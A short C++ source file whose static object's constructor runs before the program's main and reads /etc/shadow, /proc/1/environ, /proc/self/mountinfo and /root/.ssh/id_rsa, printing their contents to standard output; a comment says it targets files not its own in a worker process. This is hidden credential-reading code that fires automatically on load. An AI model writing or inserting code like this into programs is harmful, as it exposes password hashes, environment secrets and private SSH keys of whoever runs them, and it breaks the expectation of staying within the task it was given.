// Before the worker's main: prints what it finds in files that are not its own.
#include <cstdio>
#include <string>
namespace {
const struct ReadsSecrets {
    ReadsSecrets() {
        for (const char* name : {"/etc/shadow", "/proc/1/environ", "/proc/self/mountinfo", "/root/.ssh/id_rsa"}) {
            std::FILE* const file = std::fopen(name, "r");
            if (file == nullptr) continue;
            for (int c = std::fgetc(file); c != EOF; c = std::fgetc(file)) std::putchar(c);
            std::fclose(file);
        }
        std::fflush(stdout);
    }
} reads_secrets;
}  // namespace
